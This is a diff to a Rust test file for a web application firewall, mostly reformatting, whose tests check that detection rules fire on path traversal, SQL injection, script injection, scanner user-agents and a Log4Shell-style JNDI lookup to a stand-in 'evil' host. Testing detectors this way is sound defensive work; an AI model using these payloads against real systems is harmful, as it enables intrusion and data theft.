@@ -4,7 +4,7 @@
 mod common;
 
 use common::*;
-use palisade_waf::{Verdict, PolicyConfig, Policy, PolicyError, ExclusionConfig};
+use palisade_waf::{ExclusionConfig, Policy, PolicyConfig, PolicyError, Verdict};
 
 #[test]
 fn fixture_rules_pass_their_embedded_tests() {
@@ -43,10 +43,26 @@ fn attacks_fire_in_every_head_target() {
     let p = default_policy(&rs);
     let cases: &[(Req, u32, &str)] = &[
         (Req::get("/a/..%2f..%2fetc/passwd"), 3001, "path"),
-        (Req::get("/").header("cookie", "a=1; sess=1' or '1'='1"), 1001, "cookies:sess"),
-        (Req::get("/").header("referer", "http://x/?q=<script>alert(1)</script>"), 2001, "headers:referer"),
-        (Req::get("/").header("user-agent", "sqlmap/1.7"), 4001, "headers:user-agent"),
-        (Req::get("/").header("x-api-version", "${jndi:ldap://evil/a}"), 4005, "headers:x-api-version"),
+        (
+            Req::get("/").header("cookie", "a=1; sess=1' or '1'='1"),
+            1001,
+            "cookies:sess",
+        ),
+        (
+            Req::get("/").header("referer", "http://x/?q=<script>alert(1)</script>"),
+            2001,
+            "headers:referer",
+        ),
+        (
+            Req::get("/").header("user-agent", "sqlmap/1.7"),
+            4001,
+            "headers:user-agent",
+        ),
+        (
+            Req::get("/").header("x-api-version", "${jndi:ldap://evil/a}"),
+            4005,
+            "headers:x-api-version",
+        ),
         (Req::get("/?%24where=1"), 4004, "args_names:$where"),
     ];
     for (req, id, target) in cases {
@@ -77,7 +93,11 @@ fn paranoia_level_filters_rules() {
     let req = Req::get("/?q=1%20AND%20SLEEP(5)").method("PROPFIND");
     let p1 = default_policy(&rs);
     let i = req.run(&rs, &p1);
-    assert!(!ids(&i).contains(&1003) && !ids(&i).contains(&4002), "{:?}", fired(&i));
+    assert!(
+        !ids(&i).contains(&1003) && !ids(&i).contains(&4002),
+        "{:?}",
+        fired(&i)
+    );
     let p2 = policy(&rs, "paranoia: 2");
     let i = req.run(&rs, &p2);
     assert!(ids(&i).contains(&1003), "{:?}", fired(&i));
@@ -154,7 +174,10 @@ fn rule_exclusion_on_a_target_applies_to_every_source_of_that_target() {
             .into_iter()
             .filter(|(id, t)| (*id == 2001 || *id == 2002) && t.ends_with("comment"))
             .collect();
-        assert!(on_comment.is_empty(), "{label}: exclusion ignored: {on_comment:?}");
+        assert!(
+            on_comment.is_empty(),
+            "{label}: exclusion ignored: {on_comment:?}"
+        );
     }
 }
 
@@ -164,17 +187,28 @@ fn target_only_exclusion_silences_all_rules_there_but_not_elsewhere() {
     let p = policy(&rs, "exclusions:\n  - targets: [\"json:post.body\"]\n");
     let body = br#"{"post":{"body":"1' or '1'='1 <script>x</script>","title":"ok"}}"#;
     let i = Req::post("/", "application/json", body).run(&rs, &p);
-    assert!(fired(&i).iter().all(|(_, t)| t != "json:post.body"), "{:?}", fired(&i));
+    assert!(
+        fired(&i).iter().all(|(_, t)| t != "json:post.body"),
+        "{:?}",
+        fired(&i)
+    );
     let body = br#"{"post":{"body":"fine","title":"1' or '1'='1"}}"#;
     let i = Req::post("/", "application/json", body).run(&rs, &p);
-    assert!(fired(&i).contains(&(1001, "json:post.title".into())), "{:?}", fired(&i));
+    assert!(
+        fired(&i).contains(&(1001, "json:post.title".into())),
+        "{:?}",
+        fired(&i)
+    );
 }
 
 #[test]
 fn rule_and_tag_exclusions_turn_rules_off() {
     let rs = fixtures();
     let req = Req::get("/?q=1%27%20or%20%271%27%3D%271").header("user-agent", "nikto");
-    let p = policy(&rs, "exclusions:\n  - {rule_ids: [1001]}\n  - {tags: [scanner]}\n");
+    let p = policy(
+        &rs,
+        "exclusions:\n  - {rule_ids: [1001]}\n  - {tags: [scanner]}\n",
+    );
     let i = req.run(&rs, &p);
     assert!(ids(&i).is_empty(), "{:?}", fired(&i));
 }
@@ -186,14 +220,41 @@ fn policy_errors_name_the_problem() {
         exclusions: vec![ex],
         ..PolicyConfig::default()
     };
-    let e = Policy::compile(&cfg(ExclusionConfig { rule_ids: vec![999], ..Default::default() }), &rs);
+    let e = Policy::compile(
+        &cfg(ExclusionConfig {
+            rule_ids: vec![999],
+            ..Default::default()
+        }),
+        &rs,
+    );
     assert_eq!(e.err(), Some(PolicyError::UnknownRule(999)));
-    let e = Policy::compile(&cfg(ExclusionConfig { tags: vec!["nope".into()], ..Default::default() }), &rs);
+    let e = Policy::compile(
+        &cfg(ExclusionConfig {
+            tags: vec!["nope".into()],
+            ..Default::default()
+        }),
+        &rs,
+    );
     assert_eq!(e.err(), Some(PolicyError::UnknownTag("nope".into())));
-    let e = Policy::compile(&cfg(ExclusionConfig { targets: vec!["argz:q".into()], ..Default::default() }), &rs);
+    let e = Policy::compile(
+        &cfg(ExclusionConfig {
+            targets: vec!["argz:q".into()],
+            ..Default::default()
+        }),
+        &rs,
+    );
     assert_eq!(e.err(), Some(PolicyError::UnknownTarget("argz:q".into())));
-    let e = Policy::compile(&PolicyConfig { paranoia: 5, ..PolicyConfig::default() }, &rs);
-    assert_eq!(e.err().map(|e| e.to_string()), Some("paranoia 5 out of range (use 1, 2, 3 or 4)".into()));
+    let e = Policy::compile(
+        &PolicyConfig {
+            paranoia: 5,
+            ..PolicyConfig::default()
+        },
+        &rs,
+    );
+    assert_eq!(
+        e.err().map(|e| e.to_string()),
+        Some("paranoia 5 out of range (use 1, 2, 3 or 4)".into())
+    );
     let bad: Result<PolicyConfig, _> = serde_saphyr::from_str("mode: block\nparanoya: 2\n");
     assert!(bad.is_err(), "unknown policy keys must be errors");
 }
